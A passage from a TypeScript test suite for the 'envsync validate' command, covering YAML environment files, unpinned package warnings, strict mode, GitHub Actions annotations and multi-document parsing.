    const dir = tempDir();
    mkdirSync(path.join(dir, 'environments'));
    const r = await runCli(['validate'], { cwd: dir });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/error\[no_files\]: no \.yaml or \.yml files under environments/);
  });
});

describe('envsync validate on good input', () => {
  it('accepts the shipped environments', async () => {
    const r = await runCli(['validate', 'environments', '--format', 'json'], { cwd: ROOT });
    expect(r.code).toBe(0);
    const doc = JSON.parse(r.stdout) as {
      format_version: number;
      valid: boolean;
      environments: { name: string; file: string; line: number; config_hash: string }[];
    };
    expect(doc.format_version).toBe(1);
    expect(doc.valid).toBe(true);
    expect(doc.environments.length).toBeGreaterThanOrEqual(3);
    for (const env of doc.environments) {
      expect(env.config_hash).toMatch(/^sha256:[0-9a-f]{64}$/);
      expect(env.file).toMatch(/^environments\/.+\.ya?ml$/);
    }
  });

  it('warns about unpinned packages, empty files and scope on cloud; --strict makes them errors', async () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'empty.yaml'), '# nothing yet\n');
    writeFileSync(
      path.join(dir, 'loose.yml'),
      'name: loose\nscope: organization\nconfig:\n  type: cloud\n  packages:\n    pip: [pandas]\n    npm: ["express@^4.18.0"]\n    go: [golang.org/x/tools/cmd/goimports@latest]\n',
    );
    const r = await runCli(['validate', '.', '--format', 'json'], { cwd: dir });
    expect(r.code).toBe(0);
    const doc = JSON.parse(r.stdout) as { valid: boolean; diagnostics: JsonDiagnostic[] };
    expect(doc.valid).toBe(true);
    const byPath = Object.fromEntries(doc.diagnostics.map((d) => [`${d.file}:${d.path}`, d]));
    expect(byPath['empty.yaml:']).toMatchObject({
      severity: 'warning',
      line: 1,
      column: 1,
      message: 'file holds no environment',
    });
    expect(byPath['loose.yml:scope']).toMatchObject({ severity: 'warning', line: 2, column: 1 });
    expect(byPath['loose.yml:config.packages.pip[0]']).toMatchObject({
      severity: 'warning',
      line: 6,
      column: 11,
      hint: 'pin it as pandas==<version>; `pip index versions pandas` lists the versions',
    });
    expect(byPath['loose.yml:config.packages.npm[0]']?.hint).toBe(
      'pin it as express@<version>; `npm view express version` shows the latest',
    );
    expect(byPath['loose.yml:config.packages.go[0]']?.message).toMatch(/not pinned/);

    const strict = await runCli(['validate', '.', '--strict', '--format', 'json'], { cwd: dir });
    expect(strict.code).toBe(1);
    const sdoc = JSON.parse(strict.stdout) as { diagnostics: JsonDiagnostic[] };
    expect(sdoc.diagnostics.every((d) => d.severity === 'error')).toBe(true);
    expect(sdoc.diagnostics).toHaveLength(doc.diagnostics.length);
  });

  it('emits GitHub annotations when running in GitHub Actions', async () => {
    const r = await runCli(['validate', `${FIX}/http-host`], { env: { GITHUB_ACTIONS: 'true' } });
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(
      `::error file=${FIX}/http-host/env.yaml,line=8,col=9::config.networking.allowed_hosts[1]: "http://insecure.example.com" uses plain http:// (hint: use a host name (api.example.com) or an https:// origin)\n`,
    );
  });

  it('counts every declared environment in the summary, the ones with errors too', async () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'ok.yaml'), 'name: one\n---\nname: two\n');
    // One refused by the schema, one whose YAML does not even read (a key twice): both still declared.
    writeFileSync(
      path.join(dir, 'bad.yaml'),
      'name: three\nconfig: {type: clod}\n---\nname: four\nname: again\n',
    );
    const r = await runCli(['validate', '.'], { cwd: dir });
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^4 environments, 2 errors, 0 warnings$/m);
    expect(r.stdout).toContain('duplicate key "name" (first at line 4)');
    const json = JSON.parse((await runCli(['validate', '.', '--format', 'json'], { cwd: dir })).stdout);
    expect([json.declared, json.environments.length]).toEqual([4, 2]);
  });

  it('annotations name files from the repository root (GITHUB_WORKSPACE), wherever envsync runs', async () => {
    const repo = tempDir();
    const project = path.join(repo, 'infra/agents');
    mkdirSync(path.join(project, 'environments'), { recursive: true });
    writeFileSync(path.join(project, 'environments/a.yaml'), 'name: a\nconfig: {type: clod}\n');
    const r = await runCli(['validate', 'environments'], {
      cwd: project,
      env: { GITHUB_ACTIONS: 'true', GITHUB_WORKSPACE: repo },
    });
    expect(r.stdout).toMatch(/^::error file=infra\/agents\/environments\/a\.yaml,line=2,col=16::/m);
    // The human lines keep paths from where envsync ran.
    expect(r.stdout).toMatch(/^error {4}environments\/a\.yaml:2:16/m);
  });

  it('reads several documents from one file', async () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'many.yaml'), 'name: one\n---\nname: two\n---\n');
    const r = await runCli(['validate', '.', '--format', 'json'], { cwd: dir });
    expect(r.code).toBe(0);
    const doc = JSON.parse(r.stdout) as { environments: { name: string; line: number }[] };
    expect(doc.environments.map((e) => [e.name, e.line])).toEqual([
      ['one', 1],
      ['two', 3],
    ]);
  });
});
